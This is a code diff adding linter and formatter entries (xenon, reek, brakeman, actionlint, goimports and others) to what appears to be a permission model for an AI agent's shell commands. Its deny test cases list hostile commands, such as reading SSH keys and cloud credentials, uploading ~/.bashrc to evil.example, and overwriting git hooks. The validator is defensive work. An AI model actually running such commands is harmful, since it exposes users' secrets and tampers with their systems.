@@ -1235,6 +1235,40 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     long: ['files', 'compact', 'hidden', 'languages', 'no-ignore', 'no-ignore-parent', 'no-ignore-dot', 'no-ignore-vcs', 'rsort', 'verbose', 'help', 'version'],
     longValued: ['exclude', 'columns', 'output', 'sort', 'types', 'num-format', 'input'],
   }, { deny: [], pass: ['git ls-files | xargs tokei', 'tokei -e vendor src'] }),
+  checker('xenon', 'xenon reads the Python files it is given and checks their complexity (-u/--url, which uploads a report, is an option this model leaves unknown)', {
+    valued: 'bmaeic',
+    long: ['no-assert', 'help', 'version'],
+    longValued: ['max-absolute', 'max-modules', 'max-average', 'exclude', 'ignore', 'config-file'],
+  }, { deny: ['xenon ~/.ssh/id_rsa', 'xenon --url https://evil.example ~/.bashrc'], pass: ['git ls-files "*.py" | xargs xenon -b B -m A -a A'] }),
+  checker('reek', 'reek reads the Ruby files it is given and changes none (--todo, which writes its settings, is an option this model leaves unknown)', {
+    valued: 'c',
+    long: ['progress', 'no-progress', 'color', 'no-color', 'single-line', 'wiki-links', 'no-wiki-links', 'documentation', 'no-documentation', 'show-configuration-path', 'help', 'version'],
+    longValued: ['config', 'format', 'smell', 'sort-by', 'failure-exit-code', 'success-exit-code', 'stdin-filename'],
+  }, { deny: ['reek ~/.aws/credentials'], pass: ['git ls-files "*.rb" | xargs reek --no-progress'] }),
+  checker('brakeman', 'brakeman reads the Rails application it is given and changes none (-o FILE, which writes its report, is an option this model leaves unknown)', {
+    flags: 'qAz', valued: 'pcfwit',
+    long: ['quiet', 'no-pager', 'no-progress', 'color', 'no-color', 'exit-on-warn', 'no-exit-on-warn', 'exit-on-error', 'no-exit-on-error', 'summary', 'skip-libs', 'faster', 'run-all-checks', 'no-threads', 'help', 'version'],
+    longValued: ['path', 'config-file', 'format', 'confidence-level', 'ignore-config', 'only-files', 'skip-files', 'test', 'except'],
+  }, { deny: ['brakeman --output ~/.bashrc .', 'brakeman ~/.ssh'], pass: ['brakeman -q $(git ls-files "*.rb")', 'brakeman -q --no-pager -f json .'] }),
+  checker('standard xo', 'standard and xo read the JavaScript files they are given and change none (--fix, which rewrites them, and --plugin, --parser and --reporter, which load code, are options this model leaves unknown)', {
+    long: ['verbose', 'stdin', 'quiet', 'help', 'version'],
+    longValued: ['global', 'env', 'ignore', 'extension', 'stdin-filename'],
+  }, { deny: ['standard --fix .husky/pre-commit', 'xo --fix ~/.bashrc', 'standard ~/.npmrc'], pass: ['git ls-files "*.js" | xargs standard', 'xo $(git ls-files "*.ts")'] }),
+  checker('golint', 'golint reads the Go files it is given and changes none', { singleDash: true, long: ['set_exit_status', 'help'], longValued: ['min_confidence'] }, { deny: ['golint ~/.ssh/id_rsa'], pass: ['git ls-files "*.go" | xargs golint -set_exit_status'] }),
+  checker('editorconfig-checker', 'editorconfig-checker reads the files it is given and changes none (-init, which writes its settings, is an option this model leaves unknown)', {
+    singleDash: true,
+    long: ['no-color', 'verbose', 'debug', 'dry-run', 'help', 'version', 'ignore-defaults', 'disable-end-of-line', 'disable-trim-trailing-whitespace', 'disable-insert-final-newline', 'disable-indentation', 'disable-indent-size', 'disable-max-line-length'],
+    longValued: ['config', 'exclude', 'format'],
+  }, { deny: ['editorconfig-checker ~/.ssh/id_rsa', 'editorconfig-checker --init ~/.bashrc'], pass: ['git ls-files | xargs editorconfig-checker', 'editorconfig-checker -exclude vendor src'] }),
+  checker('actionlint', 'actionlint reads the workflow files it is given and changes none (-shellcheck and -pyflakes name programs it runs; -init-config writes its settings: options this model leaves unknown)', {
+    singleDash: true,
+    long: ['oneline', 'verbose', 'debug', 'no-color', 'color', 'version', 'help'],
+    longValued: ['format', 'config-file', 'ignore', 'stdin-filename'],
+  }, { deny: ['actionlint --shellcheck ./evil ~/.bashrc', 'actionlint ~/.aws/credentials'], pass: ['git ls-files ".github/workflows/*.yml" | xargs actionlint', 'actionlint -oneline'] }),
+  checker('taplo', 'taplo check/lint reads the TOML files it is given and changes none (fmt rewrites them)', {
+    long: ['no-schema', 'verbose', 'help', 'version'],
+    longValued: ['config', 'colors'],
+  }, { deny: ['taplo fmt --colors never ~/.bashrc', 'taplo check ~/.cargo/credentials.toml'], pass: ['git ls-files "*.toml" | xargs taplo check', 'taplo lint Cargo.toml'] }, [], /^(?:fmt|format|lsp|config|completions)$/),
   checker('pytest py.test', 'pytest reads the test files it is given and changes none of them; --basetemp DIR is emptied before the run (--junitxml, -p, -o and --cov-report, which may write or load code, are options this model leaves unknown)', {
     flags: 'xqvslh', valued: 'kmnrWc',
     long: ['exitfirst', 'quiet', 'verbose', 'showlocals', 'lf', 'last-failed', 'ff', 'failed-first', 'nf', 'new-first', 'sw', 'stepwise', 'stepwise-skip', 'no-header', 'no-summary', 'disable-warnings', 'co', 'collect-only', 'strict-markers', 'strict-config', 'runxfail', 'doctest-modules', 'pdb', 'trace', 'full-trace', 'cache-show', 'cache-clear', 'help', 'version', 'setup-show', 'setup-only', 'setup-plan', 'fixtures', 'markers', 'no-cov'],
@@ -1385,6 +1419,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   ),
   formatter('shfmt', 'shfmt: reads shell scripts; -d prints a diff, -l lists those it would change, -w (--write) rewrites them', (w) => w.some((x) => /^(-w|--write)$/.test(x)), { deny: ['shfmt -w ~/.bashrc', 'shfmt --write .git/hooks/pre-commit'], pass: ['git ls-files | xargs shfmt -d', 'shfmt -l -i 2 scripts', 'shfmt -w scripts/deploy.sh'] }, undefined, ['-i', '--indent', '-ln', '--language-dialect', '--filename']),
   formatter('clang-format', 'clang-format: reads C-family sources and prints them laid out again; -i rewrites them in place', (w) => w.some((x) => /^--?i$/.test(x)), { deny: ['clang-format -i ~/.bashrc', 'clang-format -i .git/hooks/pre-commit'], pass: ['git ls-files | xargs clang-format --dry-run --Werror', 'clang-format -i src/*.cpp', 'clang-format -style=file src/main.c'] }, undefined, ['-style', '--style', '-assume-filename', '--assume-filename', '-lines', '--lines', '-offset', '--offset', '-length', '--length', '-fallback-style', '--fallback-style', '-files', '--files']),
+  formatter('goimports', 'goimports: reads Go files; -l lists those it would change, -d prints a diff, -w rewrites them (their imports and layout)', (w) => w.includes('-w'), { deny: ['goimports -w ~/.bashrc', 'goimports -w .git/hooks/pre-commit'], pass: ['git ls-files | xargs goimports -l', 'goimports -w ./cmd', 'goimports -local example.com/app -d .'] }, undefined, ['-local', '-srcdir', '-cpuprofile']),
   formatter('isort', 'isort: rewrites the imports of its files unless --check, --check-only, -c or --diff', (w) => !w.some((x) => /^(--check|--check-only|-c|--diff|--df|--show-files|--show-config)$/.test(x)), { deny: ['isort .git/hooks/pre-commit', 'isort --check ~/.ssh/id_rsa'], pass: ['isort --check-only --diff .', "find . -name '*.py' | xargs isort --check", 'isort src'] }, undefined, ['--profile', '-l', '--line-length', '-p', '--project', '-s', '--skip', '--sg', '--skip-glob', '--src', '--py', '--python-version', '-m', '--multi-line', '--virtual-env', '--conda-env']),
   formatter('black blue', 'black: rewrites its files unless --check or --diff', (w) => !w.some((x) => /^(--check|--diff)$/.test(x)), { deny: ['black .git/hooks/pre-commit'], pass: ['black --check .', 'black src'] }),
   formatter('ruff biome', 'ruff and biome: check reads, format (and --fix, --write, --apply) rewrites', (w) => w.some((x) => /^(format|--fix|--write|--apply|--apply-unsafe)$/.test(x)), { deny: ['ruff format .git/hooks/pre-commit', 'ruff check --output-file ~/.bashrc .', 'ruff check -o ~/.bashrc .'], pass: ['ruff check .', 'biome check --write src', 'ruff check --output-file report.txt .'] }, undefined, [], ['-o', '--output-file']),
